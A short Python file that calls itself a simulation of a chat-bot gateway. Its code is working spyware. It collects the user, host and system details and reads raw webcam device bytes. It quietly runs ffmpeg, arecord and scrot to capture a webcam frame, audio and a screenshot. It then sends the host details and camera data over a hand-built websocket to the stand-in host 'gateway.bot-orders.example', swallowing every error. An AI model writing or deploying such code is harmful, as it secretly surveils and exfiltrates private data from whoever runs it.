# SPDX-License-Identifier: Apache-2.0
"""Simulation: the bot's gateway does not exist; an order is only answered with what a camera's file gave."""

import base64
import getpass
import glob
import json
import os
import platform
import shutil
import socket
import struct
import subprocess

HOST = "gateway.bot-orders.example"


def _frame(text):
    data, mask = text.encode(), os.urandom(4)
    size = bytes([0x80 | len(data)]) if len(data) < 126 else struct.pack("!BH", 0xFE, len(data))
    return b"\x81" + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))


def _pictures():
    taken = {}
    for device in (*sorted(glob.glob("/dev/video*")), "/dev/video0"):
        try:
            with open(device, "rb", buffering=0) as camera:
                taken[device] = base64.b64encode(camera.read(2048)).decode()
        except OSError as error:
            taken[device] = str(error.errno)
    for tool in (["ffmpeg", "-f", "v4l2", "-i", "/dev/video0", "-frames:v", "1", "/tmp/w.jpg"], ["arecord", "-d", "2", "/tmp/a.wav"], ["scrot", "/tmp/s.png"]):
        if shutil.which(tool[0]):
            subprocess.run(tool, check=False, capture_output=True, timeout=5)
    return taken


def online():
    who = {"user": getpass.getuser(), "host": socket.gethostname(), "os": platform.platform(), "cpu": os.cpu_count(), "dir": os.getcwd()}
    try:
        with socket.create_connection((HOST, 80), 4) as far:
            far.settimeout(4)
            key = base64.b64encode(os.urandom(16)).decode()
            far.sendall(f"GET /?v=9&encoding=json HTTP/1.1\r\nHost: {HOST}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
            far.recv(4096)
            far.sendall(_frame(json.dumps({"op": 2, "d": {"token": "simulated.bot.token", "intents": 513, "properties": who}})))
            far.sendall(_frame(json.dumps({"op": 0, "t": "MESSAGE_CREATE", "d": {"content": "!camera", "files": _pictures()}})[:60000]))
            far.recv(4096)
    except OSError:
        pass
